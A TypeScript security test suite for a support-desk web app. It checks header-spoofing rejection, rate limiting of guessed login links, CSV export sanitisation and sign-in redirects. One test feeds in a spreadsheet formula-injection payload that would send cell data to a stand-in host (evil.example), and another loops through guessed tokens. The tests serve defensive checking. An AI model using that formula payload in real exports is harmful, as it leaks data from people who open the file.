import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { Browser } from '../backend/browser.ts';
import { askForPerson } from '../handoff/asking.ts';
import { type House, openHouse } from './house.ts';

/** What is thrown at the desk of a first try, and by it: on a real Redis and mail server. */
describe('attacks on the desk', () => {
  let house: House;
  before(async function () {
    house = await openHouse(this);
  });
  after(() => house?.close());
  const link = () => new URL(house.composition.firstTry ?? '');

  it('94: the link is for this machine, and a look at it uses nothing up', async () => {
    for (const headers of [{ 'x-forwarded-for': '203.0.113.9' }, { origin: 'https://evil.example' }, { via: '1.1 a' }])
      assert.equal((await fetch(link(), { headers: { ...headers } as Record<string, string> })).status, 403);
    for (let looks = 0; looks < 3; looks += 1) assert.equal((await fetch(link())).status, 200);
    const somebody = new Browser(house.url);
    const desk = await somebody.send(await somebody.open(link().href), {});
    assert.equal(desk.url.pathname, '/desk');
  });

  it('94: the right link after twenty wrong ones is still refused, and who is signed in goes on', async function () {
    const other = await openHouse(this);
    try {
      const guesser = new Browser(other.url);
      const guess = async (token: string) =>
        guesser.send(await guesser.open(`/desk/first-try?link=${token}`), { link: token });
      const statuses: number[] = [];
      for (let tries = 0; tries < 22; tries += 1) statuses.push((await guess(`guess-${tries}`)).status);
      assert.deepEqual(new Set(statuses.slice(0, 19)), new Set([403]));
      assert.equal(statuses.at(-1), 429);
      const right = new URL(other.composition.firstTry ?? '').searchParams.get('link') ?? '';
      const refused = await guess(right);
      assert.equal(refused.status, 429);
      assert.ok(Number(refused.headers.get('retry-after')) > 500);
      assert.match((await new Browser(other.url).open('/desk')).url.pathname, /sign-in/);
    } finally {
      await other.close();
    }
  });

  it('60: what a person typed is no formula in the figures that are taken away', async function () {
    const other = await openHouse(this);
    try {
      const sam = new Browser(other.url);
      await sam.send(await sam.open(other.composition.firstTry ?? ''), {});
      await askForPerson(other.composition, '=HYPERLINK("https://evil.example?"&A1,"Click")');
      const csv = await sam.open('/desk/figures.csv');
      assert.match(csv.headers.get('content-disposition') ?? '', /^attachment; filename="tickets-28-days\.csv"$/);
      const rows = parse(csv.html) as string[][];
      assert.equal(rows[1]?.[2], '1');
      for (const text of rows.flat()) assert.doesNotMatch(text, /^\s*[=+\-@]/);
    } finally {
      await other.close();
    }
  });

  it('54: whoever is not signed in gets no ticket, no figure, no news and no account', async () => {
    const reference = await askForPerson(house.composition, 'the esr page stays white', 'sample@nhs.net');
    const stranger = await fetch(`${house.url}/desk/tickets/${reference}`, { redirect: 'manual' });
    assert.equal(stranger.headers.get('location'), `/desk/sign-in?ticket=${reference}`);
    assert.equal((await fetch(`${house.url}/desk/live`)).status, 401);
    for (const path of ['/desk/figures.csv', '/desk/tell-all', `/desk/tickets/${reference}/account`])
      assert.match(
        (await fetch(house.url + path, { redirect: 'manual' })).headers.get('location') ?? '',
        /^\/desk\/sign-in/,
      );
  });
});
